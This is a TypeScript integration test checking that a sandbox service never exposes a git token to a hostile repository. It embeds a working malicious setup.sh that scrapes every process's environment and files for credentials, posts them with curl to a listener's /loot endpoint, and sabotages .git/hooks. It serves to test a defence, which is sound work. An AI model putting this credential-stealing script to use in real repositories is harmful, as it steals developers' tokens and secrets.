import { once } from "node:events";
import { createServer, type Server } from "node:http";
import { startTasksRepository } from "@tern/db";
import { SandboxLabel } from "@tern/sandbox";
import { type ServiceProcess, scaled, waitFor } from "@tern/testing";
import { sql } from "kysely";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createStartHarness, type StartHarness, uuidOf } from "./start-harness.ts";

// The token-theft scenario, with the git token as the canary. A hostile repository's
// setup.sh leaves a process that watches every process's environment (and the files it can read)
// for a credential and sends what it finds to a listener on the host; then it breaks .git/hooks.
// Its first run hangs until the test kills the worker, so another worker takes the start over
// after the repository's code has run: the moment an old pipeline cloned again, in that same
// container, with the token in the clone's environment.

let h: StartHarness;
let listener: Server;
let listenerUrl = "";
const hellos: string[] = [];
const loot: string[] = [];
let gateCalls = 0;
const workers: ServiceProcess[] = [];

/** Every form the canary could travel in: as itself, or inside the Basic header git would send. */
const canaryForms = () => [
  h.gitToken,
  Buffer.from(`x-access-token:${h.gitToken}`).toString("base64"),
  Buffer.from(h.gitToken).toString("base64"),
];
const holdsCanary = (text: string) => canaryForms().some((c) => text.includes(c));

// Bash builtins only in the watch loop, so it sees a process that lives a few milliseconds.
const hostileSetup = (url: string) => `#!/bin/bash
watch_processes() {
  local f; local -a env
  while :; do
    for f in /proc/[0-9]*/environ; do
      { mapfile -d '' env < "$f"; } 2>/dev/null || continue
      case "\${env[*]}" in
        *Authorization*|*GIT_CONFIG_VALUE*|*tok_*)
          printf '%s\\n' "\${env[@]}" > /tmp/.loot
          curl -s --max-time 2 --data-binary @/tmp/.loot "${url}/loot" >/dev/null ;;
      esac
    done
  done
}
watch_files() {
  local f
  while :; do
    for f in $(grep -rlI -e 'tok_' -e 'Authorization' /workspace /home /tmp 2>/dev/null | grep -v '^/tmp/.loot$'); do
      curl -s --max-time 2 --data-binary @"$f" "${url}/loot" >/dev/null
    done
    sleep 0.5
  done
}
watch_processes </dev/null >/dev/null 2>&1 &
watch_processes </dev/null >/dev/null 2>&1 &
watch_files </dev/null >/dev/null 2>&1 &
disown -a
curl -s --max-time 5 "${url}/hello?from=$HOSTNAME" >/dev/null
# Hangs the first time only: the test kills the worker in the middle of this stage.
if [ "$(curl -s --max-time 5 "${url}/gate")" = hang ]; then sleep 600; fi
rm -rf .git/hooks && echo 'not a directory' > .git/hooks
`;

beforeAll(async () => {
  h = await createStartHarness();
  const host = new URL(h.git.url).hostname;
  listener = createServer(async (req, res) => {
    const chunks: Buffer[] = [];
    for await (const c of req) chunks.push(c as Buffer);
    const body = Buffer.concat(chunks).toString("latin1");
    const path = new URL(req.url ?? "/", "http://x").pathname;
    if (path === "/hello") hellos.push(req.url ?? "");
    if (path === "/loot") loot.push(body);
    if (path === "/gate") {
      gateCalls++;
      res.end(gateCalls === 1 ? "hang" : "go");
      return;
    }
    res.end("ok");
  });
  listener.listen(0, host);
  await once(listener, "listening");
  const address = listener.address();
  listenerUrl = `http://${host}:${typeof address === "object" && address ? address.port : 0}`;
  await h.git.createFixtureRepo("mallory/stealer", {
    ".openhands/setup.sh": hostileSetup(listenerUrl),
    ".openhands/pre-commit.sh": "#!/bin/bash\nexit 0\n",
  });
  await h.git.createFixtureRepo("acme/plain", { ".openhands/setup.sh": "#!/bin/bash\necho set up\n" });
}, scaled(60_000));

afterAll(async () => {
  await Promise.all(workers.map((w) => w.kill().catch(() => undefined)));
  listener?.closeAllConnections();
  listener?.close();
  await h?.close();
}, scaled(120_000));

const SCAN_DONE = "scan complete";
/**
 * Everything a sandbox's own user can read that could hold the canary: files, and every process's
 * environment and command line. It ends by saying so: a scan that broke off (a sandbox gone, an exec
 * refused) fails the test instead of reading as "nothing found"; the positive controls below show it
 * finds a canary where one is.
 */
const SCAN = `
grep -rlIs -e "$1" / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev 2>/dev/null
for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do grep -lsa -e "$1" "$f"; done
grep -rIs -e "$2" /workspace /home /tmp 2>/dev/null | head -n 3
echo "${SCAN_DONE}"`;

/** The canary as printf escapes: the scan's own command line must not hold it, or it finds itself. */
const escaped = (text: string) => [...Buffer.from(text)].map((b) => `\\x${b.toString(16).padStart(2, "0")}`).join("");

/** What the scan found of `forms` (the raw canary and its Basic form), one line per place; "" for nothing. */
const scanSandbox = async (name: string, forms = canaryForms()) => {
  const [raw, basic] = forms as [string, string];
  const r = await h.execIn(
    name,
    `set -- "$(printf '%b' '${escaped(raw)}')" "$(printf '%b' '${escaped(basic)}')"\n${SCAN}`,
  );
  const output = r.output.trim();
  expect({ exitCode: r.exitCode, ended: output.endsWith(SCAN_DONE) }, output).toEqual({ exitCode: 0, ended: true });
  return output.slice(0, -SCAN_DONE.length).trim();
};

/**
 * The positive controls: a canary of our own, planted in a file and in a process's environment as
 * the sandbox's user (as the token would be, were it there). Returns the canary.
 */
const plantCanary = async (name: string, tag: string) => {
  const canary = `tok_${tag}_${Math.random().toString(36).slice(2)}`;
  const r = await h.execIn(
    name,
    `printf '%s\\n' '${canary}' > /tmp/${tag}-canary
TERN_PLANTED='${canary}' setsid sleep 600 </dev/null >/dev/null 2>&1 &
echo planted`,
  );
  expect(r.output.trim()).toBe("planted");
  return canary;
};

describe("the git token never reaches a sandbox (token theft)", () => {
  it("a start taken over after the repository's code ran gives its watcher nothing, and fails as the repository's fault", async () => {
    const { userId } = await h.newUser();
    const a = await h.startWorker({ WORKER_ID: "theft-a" });
    workers.push(a);
    const taskId = await h.enqueueDirect(userId, { selected_repository: "mallory/stealer" });
    await waitFor(() => hellos.length >= 1, { what: "the hostile setup.sh to run its watcher", timeoutMs: 60_000 });
    const first = (await h.sandboxes()).find((s) => s.labels[SandboxLabel.TaskId] === uuidOf(taskId));
    expect(first).toBeDefined();
    // While the watcher runs: nothing in the sandbox holds the token.
    expect(await scanSandbox(first!.name)).toBe("");
    // The positive control: the watcher does find a credential in a file and in a process's
    // environment, and the listener gets it.
    const canary = await plantCanary(first!.name, "watcher");
    await waitFor(
      () =>
        loot.some((l) => l.includes(`TERN_PLANTED=${canary}`)) &&
        loot.some((l) => l.includes(canary) && !l.includes("TERN_PLANTED=")),
      { what: "the watcher to send the planted canary, from the environment and from the file" },
    );
    // And the scan, run the same way, finds it too.
    const found = await scanSandbox(first!.name, [canary, Buffer.from(`x-access-token:${canary}`).toString("base64")]);
    expect(found).toContain("/tmp/watcher-canary");
    expect(found).toMatch(/^\/proc\/\d+\/environ$/m);

    await a.kill();
    const b = await h.startWorker({ WORKER_ID: "theft-b" });
    workers.push(b);
    // Until the start has ended, or the canary has arrived (what an old pipeline let happen).
    const tasks = startTasksRepository(h.database.db);
    await waitFor(
      async () =>
        loot.some(holdsCanary) || ["READY", "ERROR"].includes((await tasks.get(uuidOf(taskId)))?.status ?? ""),
      { what: "the start to end, or the canary to arrive", timeoutMs: 90_000 },
    );
    // The canary never arrived, in any form.
    expect(loot.filter(holdsCanary)).toEqual([]);
    const { task } = await h.waitForTask(taskId, 30_000);

    // The takeover began over in a fresh sandbox, the repository broke its hooks there: its fault, at once.
    expect(task.status).toBe("ERROR");
    expect(task.detail).toMatch(/^SETTING_UP_GIT_HOOKS: /);
    expect(task.attempt).toBe(2);
    expect(hellos.length).toBe(2);
    expect((await h.sandboxes()).filter((s) => s.labels[SandboxLabel.TaskId] === uuidOf(taskId))).toEqual([]);

    expect(loot.filter(holdsCanary)).toEqual([]);
    // Nor in the logs or anything stored.
    await b.stop();
    for (const w of [a, b]) expect(holdsCanary(w.output())).toBe(false);
    const stored = await sql<{ text: string }>`
      select coalesce(string_agg(t::text, ' '), '') as text from (
        select row_to_json(s)::text as t from start_tasks s
        union all select row_to_json(e)::text from events e
        union all select row_to_json(c)::text from conversations c
      ) x(t)`.execute(h.database.db);
    expect(holdsCanary(stored.rows[0]?.text ?? "")).toBe(false);
  });

  it("a repository cloned with the token: READY, with no trace of the token in the sandbox or its git config", async () => {
    const { userId } = await h.newUser();
    const w = await h.startWorker({ WORKER_ID: "theft-c" });
    workers.push(w);
    const taskId = await h.enqueueDirect(userId, { selected_repository: "acme/plain" });
    const { task } = await h.waitForTask(taskId, 60_000);
    expect(task.status).toBe("READY");
    // The clone was made with the token (the git server refuses any request without it).
    expect(h.git.requests.some((r) => r.includes("/acme/plain.git/") && r.endsWith(" authorized"))).toBe(true);
    const sandbox = (await h.sandboxes()).find((s) => s.labels[SandboxLabel.TaskId] === uuidOf(taskId));
    expect(sandbox).toBeDefined();
    expect(await scanSandbox(sandbox!.name)).toBe("");
    // The positive control: the same scan finds a canary planted in a file and in a process's environment.
    const canary = await plantCanary(sandbox!.name, "scan");
    const found = await scanSandbox(sandbox!.name, [
      canary,
      Buffer.from(`x-access-token:${canary}`).toString("base64"),
    ]);
    expect(found).toContain("/tmp/scan-canary");
    expect(found).toMatch(/^\/proc\/\d+\/environ$/m);
    const config = await h.execIn(
      sandbox!.name,
      "cd /workspace/plain && git config --list --local && stat -c '%u:%g' . .git README.md",
    );
    expect(config.output).toContain(`remote.origin.url=${h.git.url}/acme/plain.git`);
    expect(config.output).not.toMatch(/extraheader|:\/\/[^/\s]*@/i);
    expect(config.output).toContain("1000:1000\n1000:1000\n1000:1000");
    await w.stop();
    expect(holdsCanary(w.output())).toBe(false);
  });
});
